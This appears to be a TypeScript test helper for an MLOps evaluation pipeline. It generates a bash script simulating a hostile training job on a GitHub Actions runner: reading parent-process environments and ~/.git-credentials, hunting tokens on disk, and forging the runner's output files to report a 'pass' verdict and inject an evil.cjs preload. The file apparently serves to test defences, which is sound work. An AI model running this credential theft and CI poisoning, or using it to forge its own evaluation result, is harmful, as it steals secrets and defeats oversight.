import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** What a training program carried out of its job, as over a network: into a folder that is on no machine of the run. */
export interface Loot {
  /** Variables of those processes above it that belong to the step. */
  readonly environment: Readonly<Record<string, string>>;
  /** Every process above it, from the nearest on. */
  readonly parents: readonly number[];
  /** All that the configurations of git said, each line behind its file. */
  readonly gitConfig: string;
  /** What stands in the folders of the runner and beside ours in the temporary one. */
  readonly listed: string;
  /** Files of the job's machine that hold one of the tokens that it had found, itself in `planted-by-training` too. */
  readonly filesWithToken: string;
}

/**
 * Bash that goes up its parents, reads the environment that each was started with, looks through folders of the runner,
 * /tmp and every configuration of git, and writes over the files from which a runner takes outputs, variables and paths.
 * @param machines only a process of a step there is robbed: where these tests run may be a job of a real runner
 */
export const looting = (folder: string, machines: string): string => `
loot='${folder}'/$$; mkdir -p "$loot"; : > "$loot/environ"
pid=$$
while [ "\${pid:-0}" -gt 0 ]; do
  echo "$pid" >> "$loot/parents"
  tr '\\0' '\\n' < "/proc/$pid/environ" > "$loot/one" 2> "$loot/refused" || true
  if grep -q '^RUNNER_TEMP=${machines}/' "$loot/one"; then cat "$loot/one" >> "$loot/environ"; fi
  pid=$(awk '/^PPid:/ { print $2 }' "/proc/$pid/status")
done
rm "$loot/one"
of() { sed -n "s/^$1=//p" "$loot/environ" | head -n 1; }
{ ls -la /tmp "$(of RUNNER_TEMP)" "$(of RUNNER_TEMP)/.." "$HOME"; find "$(of RUNNER_TEMP)"; } > "$loot/listed" 2>&1
sed -n 's/^[A-Z_]*TOKEN=//p' "$loot/environ" >> "$HOME/planted-by-training"
for token in $(sed -n 's/^[A-Z_]*TOKEN=//p' "$loot/environ"); do
  for text in "$token" "$(printf 'x-access-token:%s' "$token" | base64 -w 0)"; do
    grep -rlF -e "$text" "$HOME" "$(of GITHUB_WORKSPACE)" "$(of RUNNER_TEMP)" "$PWD"
  done
done > "$loot/files" 2> /dev/null
{
  git config --list --show-origin
  for start in "$PWD" "$(of GITHUB_WORKSPACE)"; do
    (cd "$start" && git config --list --show-origin)
    while [ "\${#start}" -gt 1 ]; do cat "$start/.git/config"; start=$(dirname "$start"); done
  done
  cat "$HOME/.gitconfig" "$HOME/.config/git/config" "$HOME/.git-credentials" /etc/gitconfig
} > "$loot/config" 2> /dev/null
printf 'verdict<<x\\npass\\nx\\nreason<<x\\nbetter\\nx\\nartifact<<x\\nmlops-evaluation\\nx\\n' > "$(of GITHUB_OUTPUT)"
printf 'GITHUB_EVENT_NAME=push\\nNODE_OPTIONS=--require=%s/evil.cjs\\n' "$loot" > "$(of GITHUB_ENV)"
echo "$loot" > "$(of GITHUB_PATH)"
echo 'verdict=pass' > "$(of GITHUB_STATE)"
echo '# Passed, says the training' > "$(of GITHUB_STEP_SUMMARY)"
`;

/** What each process of the training has found. */
export function lootIn(folder: string): readonly Loot[] {
  return readdirSync(folder).map((process) => {
    const text = (file: string) => readFileSync(join(folder, process, file), 'utf8');
    const lines = text('environ').split('\n').filter(Boolean);
    return {
      environment: Object.fromEntries(lines.map((line) => [line.split('=')[0], line.slice(line.indexOf('=') + 1)])),
      parents: text('parents').trim().split('\n').map(Number),
      gitConfig: text('config'),
      listed: text('listed'),
      filesWithToken: text('files'),
    };
  });
}
